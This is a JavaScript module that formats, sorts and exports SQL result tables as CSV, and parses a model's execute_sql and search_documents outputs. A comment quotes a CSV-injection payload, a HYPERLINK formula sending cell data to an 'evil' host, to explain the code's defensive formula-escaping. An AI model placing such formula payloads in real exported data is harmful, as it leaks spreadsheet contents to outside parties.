// Result tables without the DOM: cell formatting, sorting and CSV export.
// A result is the API's shape: {columns:[{name, type, sql_type}], rows:[[…]]}.
// Rows are arrays; DECIMAL, big integers, NaN and ±Inf arrive as strings; dates
// and timestamps as ISO 8601 strings; BLOB as base64.

export const NUMERIC_TYPES = new Set(['integer', 'float', 'decimal']);
export const TIME_TYPES = new Set(['date', 'timestamp']);

/** isNumericType reports whether a column type holds numbers. */
export function isNumericType(type) {
  return NUMERIC_TYPES.has(String(type || '').toLowerCase());
}

/** toNumber turns a cell into a number, or null (strings such as "12.50" too). */
export function toNumber(v) {
  if (v === null || v === undefined || v === '') return null;
  if (typeof v === 'number') return Number.isFinite(v) ? v : null;
  if (typeof v === 'boolean') return v ? 1 : 0;
  const n = Number(v);
  return Number.isFinite(n) ? n : null;
}

// Columns whose numbers are names, not amounts: no thousands separators
// (2024, not 2,024; an id of 12345 as it is).
const NAME_LIKE = /^(year|yr|id|code|zip|zipcode|postcode|phone)$|(_|^)(year|yr|id|code|zip)$|Id$/i;

/**
 * groupDigits puts thousands separators in a plain decimal number's text
 * ("-1234567.5" → "-1,234,567.5"); other text (NaN, 1e+21) is returned as is.
 */
export function groupDigits(s) {
  const m = /^([+-]?)(\d+)(\.\d+)?$/.exec(String(s));
  if (!m) return String(s);
  return `${m[1]}${m[2].replace(/\B(?=(\d{3})+(?!\d))/g, ',')}${m[3] || ''}`;
}

/**
 * formatCell gives the text shown for a cell. null is "NULL"; lists, structs
 * and maps are JSON; numbers (integer, float, decimal columns) get thousands
 * separators unless the column's name says they are a year or an id; floats
 * keep at most 6 decimals; everything else is as sent.
 * @param {any} v
 * @param {string} type the column's friendly type
 * @param {string} [name] the column's name
 */
export function formatCell(v, type, name = '') {
  if (v === null || v === undefined) return 'NULL';
  if (typeof v === 'object') return JSON.stringify(v);
  const t = String(type).toLowerCase();
  let s = String(v);
  if (typeof v === 'number' && t === 'float' && !Number.isInteger(v)) s = String(Number(v.toFixed(6)));
  if (typeof v === 'number' && Math.abs(v) >= 1e21) return s; // exponent notation
  if (isNumericType(t) && (typeof v === 'number' || typeof v === 'string') && !NAME_LIKE.test(String(name))) return groupDigits(s);
  return s;
}

/** compareCells orders two cells of one column; nulls always sort last. */
export function compareCells(a, b, type) {
  const an = a === null || a === undefined;
  const bn = b === null || b === undefined;
  if (an || bn) return an && bn ? 0 : an ? 1 : -1;
  const t = String(type || '').toLowerCase();
  if (isNumericType(t)) {
    if (t === 'integer' && typeof a === 'string' && typeof b === 'string' && /^-?\d+$/.test(a) && /^-?\d+$/.test(b)) {
      const x = BigInt(a);
      const y = BigInt(b);
      return x < y ? -1 : x > y ? 1 : 0;
    }
    const x = toNumber(a);
    const y = toNumber(b);
    if (x === null || y === null) return String(a).localeCompare(String(b)); // NaN, Inf as text
    return x - y;
  }
  if (typeof a === 'boolean' || typeof b === 'boolean') return Number(a) - Number(b);
  if (typeof a === 'number' && typeof b === 'number') return a - b;
  if (typeof a === 'object' || typeof b === 'object') return JSON.stringify(a).localeCompare(JSON.stringify(b));
  if (TIME_TYPES.has(t) || t === 'time') return a < b ? -1 : a > b ? 1 : 0; // ISO strings sort as text
  return String(a).localeCompare(String(b), undefined, { numeric: true, sensitivity: 'base' });
}

/**
 * sortRows returns the rows sorted by one column (a stable sort; nulls last in
 * both directions). dir is 'asc' or 'desc'.
 */
export function sortRows(rows, col, type, dir = 'asc') {
  const sign = dir === 'desc' ? -1 : 1;
  return rows
    .map((r, i) => [r, i])
    .sort(([a, i], [b, j]) => {
      const x = a[col];
      const y = b[col];
      const xn = x === null || x === undefined;
      const yn = y === null || y === undefined;
      if (xn || yn) return xn && yn ? i - j : xn ? 1 : -1;
      return sign * compareCells(x, y, type) || i - j;
    })
    .map(([r]) => r);
}

/** nextSort cycles a header's sort: none → asc → desc → none. */
export function nextSort(current, col) {
  if (!current || current.col !== col) return { col, dir: 'asc' };
  if (current.dir === 'asc') return { col, dir: 'desc' };
  return null;
}

// A text cell a spreadsheet would run as a formula unless it is a plain
// number: a data file can carry =HYPERLINK("http://evil/?"&A1) into an
// analyst's spreadsheet. A formula starts with = + - @ or their full-width
// forms ＝ ＋ － ＠ (which spreadsheets read as the same), possibly after
// spaces, tabs, line breaks or other whitespace (no-break, ideographic,
// zero-width), or with a tab or CR.
const formulaStart = /^[\s\u200b-\u200d\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;
const plainNumber = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i;

function csvField(v) {
  if (v === null || v === undefined) return '';
  let s = typeof v === 'object' ? JSON.stringify(v) : String(v);
  if (typeof v === 'string' && formulaStart.test(s) && !plainNumber.test(s.trim())) s = `'${s}`;
  return /[",\r\n]/.test(s) || /^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/**
 * toCSV writes RFC 4180 CSV: a header row, CRLF line ends, fields quoted when
 * they hold a comma, quote, line break or edge spaces; nulls are empty fields.
 * Values are written as the result holds them, except that text a
 * spreadsheet would run as a formula is prefixed with a single quote (OWASP's
 * advice on CSV injection); numbers, and text that is a plain number, are not.
 */
export function toCSV(columns, rows) {
  const lines = [columns.map((c) => csvField(c.name)).join(',')];
  for (const r of rows) lines.push(columns.map((_, i) => csvField(r[i])).join(','));
  return lines.join('\r\n') + '\r\n';
}

/**
 * resultFileName names a download after what the reader asked (the question,
 * or the card's query): lower-case words joined by "-", at most 60
 * characters, then ext ("result" when nothing is left).
 */
export function resultFileName(title, ext = 'csv') {
  const words = String(title || '').normalize('NFKD').replace(/[\u0300-\u036f]/g, '').toLowerCase()
    .match(/[a-z0-9]+/g) || [];
  let name = '';
  for (const w of words) {
    const next = name ? `${name}-${w}` : w;
    if (next.length > 60) break;
    name = next;
  }
  if (!name && words.length) name = words[0].slice(0, 60);
  return `${name || 'result'}.${ext}`;
}

/** csvFileName names a download after the query's first table, if any. */
export function csvFileName(sql) {
  const m = /\bfrom\s+("?)([A-Za-z_][A-Za-z0-9_]*)\1/i.exec(String(sql || ''));
  return `${m ? m[2] : 'result'}.csv`;
}

/**
 * parseResultText tries to read a stored tool result (the text the model
 * received) as a result shape; returns null when it is not one.
 */
export function parseResultText(text) {
  if (typeof text !== 'string') return null;
  const t = text.trim();
  if (!t.startsWith('{')) return null;
  try {
    const v = JSON.parse(t);
    if (v && Array.isArray(v.columns) && Array.isArray(v.rows)) return v;
  } catch {
    /* not JSON */
  }
  return null;
}

/**
 * parsePipeResult reads the text an execute_sql call gave the model (a header
 * of names, one " | "-separated line per row, then "(N rows…)") back into a
 * result shape with guessed column types. Returns null when the text is not
 * such a table (a value holding " | " makes the rows ragged: then too).
 */
export function parsePipeResult(text) {
  if (typeof text !== 'string') return null;
  const lines = text.replace(/\r\n?/g, '\n').split('\n');
  while (lines.length && lines[lines.length - 1].trim() === '') lines.pop();
  if (lines.length < 2) return null;
  const foot = /^\((\d+) rows?(;[^)]*)?\)$/.exec(lines[lines.length - 1].trim());
  if (!foot) return null;
  const names = lines[0].split(' | ');
  const body = lines.slice(1, -1);
  const rows = [];
  for (const l of body) {
    const cells = l.split(' | ');
    if (cells.length !== names.length) return null;
    rows.push(cells.map((c) => (c === 'NULL' ? null : c)));
  }
  const columns = names.map((name, i) => {
    const vals = rows.map((r) => r[i]).filter((v) => v !== null);
    let type = 'text';
    if (vals.length && vals.every((v) => /^-?\d+$/.test(v))) type = 'integer';
    else if (vals.length && vals.every((v) => /^-?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(v))) type = 'float';
    else if (vals.length && vals.every((v) => /^\d{4}-\d{2}-\d{2}$/.test(v))) type = 'date';
    else if (vals.length && vals.every((v) => /^\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}/.test(v))) type = 'timestamp';
    else if (vals.length && vals.every((v) => v === 'true' || v === 'false')) type = 'boolean';
    return { name, type, sql_type: '' };
  });
  for (const r of rows) {
    columns.forEach((c, i) => {
      if (r[i] === null) return;
      if (c.type === 'integer' && Math.abs(Number(r[i])) <= Number.MAX_SAFE_INTEGER) r[i] = Number(r[i]);
      else if (c.type === 'float') r[i] = Number(r[i]);
      else if (c.type === 'boolean') r[i] = r[i] === 'true';
    });
  }
  const rowCount = parseInt(foot[1], 10);
  return { columns, rows, row_count: rowCount, truncated: /more rows exist/.test(foot[2] || ''), partial: rows.length < rowCount };
}

/**
 * parseSourcesText reads the text a search_documents call gave the model
 * ("[n] document, page p" then the excerpt, blocks separated by a blank line)
 * into sources keyed by their number, for citations of reopened answers.
 */
export function parseSourcesText(text) {
  const out = new Map();
  if (typeof text !== 'string') return out;
  for (const block of text.replace(/\r\n?/g, '\n').split(/\n\s*\n(?=\[\d+\] )/)) {
    const m = /^\[(\d+)\] ([^\n]*)\n?([\s\S]*)$/.exec(block.trim());
    if (!m) continue;
    const head = m[2];
    const pm = /^(.*), page (\d+)$/.exec(head);
    const sm = /^(.*), section "(.*)"$/.exec(head);
    const metadata = pm ? { document: pm[1], page: Number(pm[2]) } : sm ? { document: sm[1], heading: sm[2] } : { document: head };
    out.set(Number(m[1]), { id: '', text: m[3].trim(), metadata });
  }
  return out;
}

/**
 * storedResult reads a stored execute_sql call's text (parsePipeResult) and
 * gives its columns the types stored with the call, when they are the same
 * columns: the text alone makes a float column of whole numbers "integer".
 * Returns null when the text is not a result table.
 * @param {string} text
 * @param {{name:string,type:string,sql_type?:string}[]} [columns] the tool call's stored columns
 */
export function storedResult(text, columns) {
  const r = parsePipeResult(text);
  if (!r) return null;
  if (!Array.isArray(columns) || columns.length !== r.columns.length || columns.some((c, i) => !c || c.name !== r.columns[i].name)) return r;
  r.columns = columns.map((c) => ({ name: c.name, type: String(c.type || 'text'), sql_type: String(c.sql_type || '') }));
  // The cells as the text has them, for decimals and text ("12.50", "007").
  const lines = text.replace(/\r\n?/g, '\n').split('\n');
  while (lines.length && lines[lines.length - 1].trim() === '') lines.pop();
  const raw = lines.slice(1, -1).map((l) => l.split(' | '));
  r.columns.forEach((c, i) => {
    const t = c.type.toLowerCase();
    r.rows.forEach((row, k) => {
      const v = row[i];
      if (v === null) return;
      if ((t === 'decimal' || t === 'text') && raw[k] && raw[k][i] !== undefined) {
        row[i] = raw[k][i];
        return;
      }
      if ((t === 'integer' || t === 'float') && typeof v === 'string') {
        const n = Number(v);
        if (Number.isFinite(n) && (t === 'float' || Math.abs(n) <= Number.MAX_SAFE_INTEGER)) row[i] = n;
      } else if (t === 'boolean' && typeof v === 'string') {
        row[i] = v === 'true';
      }
    });
  });
  return r;
}
